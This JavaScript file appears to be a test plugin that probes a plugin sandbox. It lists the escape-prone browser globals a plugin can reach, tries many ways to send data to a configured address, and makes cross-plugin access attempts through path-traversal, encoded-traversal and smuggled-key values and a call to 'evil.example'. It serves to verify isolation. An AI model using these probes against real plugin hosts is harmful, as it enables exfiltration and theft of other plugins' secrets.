import { Stack, Text, usePlugin } from '@comptoir/sdk'
import { createElement as h, useEffect, useState } from 'react'

const globals = [
  ...['document', 'parent', 'top', 'frames', 'opener', 'localStorage', 'sessionStorage', 'indexedDB', 'caches'],
  ...['fetch', 'XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'EventSource', 'WebTransport', 'importScripts'],
  ...[
    'Worker',
    'SharedWorker',
    'BroadcastChannel',
    'MessageChannel',
    'MessagePort',
    'SharedArrayBuffer',
    'postMessage',
  ],
  ...[
    'RTCPeerConnection',
    'OffscreenCanvas',
    'createImageBitmap',
    'FontFace',
    'webkitRequestFileSystem',
    'cookieStore',
  ],
  ...['close', 'reportError', 'navigator', 'location', 'Blob', 'WebAssembly', 'Notification', 'eval'],
]

const reached = [
  ...globals.filter((name) => name in globalThis),
  ...(String(console.warn).includes('[native code]') ? ['an unlimited console'] : []),
  ...('createObjectURL' in URL ? ['addresses of blobs'] : []),
]

/** What stands between plugins and everything else; nothing may be among it. */
export const Globals = () => h(Text, null, `reached: ${reached.join(', ')}`)

const module = (text) => import(`data:text/javascript,${encodeURIComponent(text)}`)

const ways = (to) => ({
  fetch: () => globalThis.fetch(to),
  socket: () => new globalThis.WebSocket(to.replace('http', 'ws')),
  events: () => new globalThis.EventSource(to),
  beacon: () => globalThis.navigator.sendBeacon(to, 'token'),
  request: () => new globalThis.XMLHttpRequest().open('GET', to),
  scripts: () => globalThis.importScripts(to),
  import: () => import(to),
  'static import': () => module(`import '${to}'`),
  'export from': () => module(`export * from '${to}'`),
  worker: () => new globalThis.Worker(to),
  font: () => new globalThis.FontFace('home', `url(${to})`).load(),
  cache: async () => (await globalThis.caches.open('home')).add(to),
  top: () => globalThis.top.location.assign(to),
  location: () => globalThis.location.assign(to),
  open: () => globalThis.open(to),
  eval: () => globalThis.eval('1'),
  function: () => (() => undefined).constructor('return 1')(),
})

async function outcomeOf([name, go]) {
  try {
    await go()
    return `${name} went`
  } catch {
    return `${name} refused`
  }
}

/** Every way out of a worker, to the address in the settings. */
export function Network() {
  const { settings } = usePlugin()
  const [outcomes, setOutcomes] = useState([])
  useEffect(() => {
    Promise.all(Object.entries(ways(settings.address)).map(outcomeOf)).then(setOutcomes)
  }, [settings])
  return h(
    Stack,
    null,
    outcomes.map((outcome) => h(Text, { key: outcome }, outcome)),
  )
}

/** The values, the script, the settings and the messages of another plugin, and calls that are nobody's but root's. */
const foreign = {
  value: ({ shop }) => shop.get('/api/plugins/victim/store/secret'),
  name: ({ store }) => store.get('../../victim/store/secret'),
  'own name': ({ store }) => store.set('x?key=victim', 1),
  script: ({ shop }) => shop.get('/api/get_plugin_script_by_key/victim'),
  token: ({ shop }) => shop.get('/api/../login'),
  elsewhere: ({ shop }) => shop.get('//evil.example/api/orders'),
  encoded: ({ shop }) => shop.get('/api/%2e%2e/login'),
}

export function Others() {
  const ctx = usePlugin()
  const [outcomes, setOutcomes] = useState([])
  useEffect(() => {
    Promise.all(Object.entries(foreign).map(([name, go]) => outcomeOf([name, () => go(ctx)]))).then(setOutcomes)
  }, [ctx])
  return h(
    Stack,
    null,
    outcomes.map((outcome) => h(Text, { key: outcome }, outcome)),
  )
}
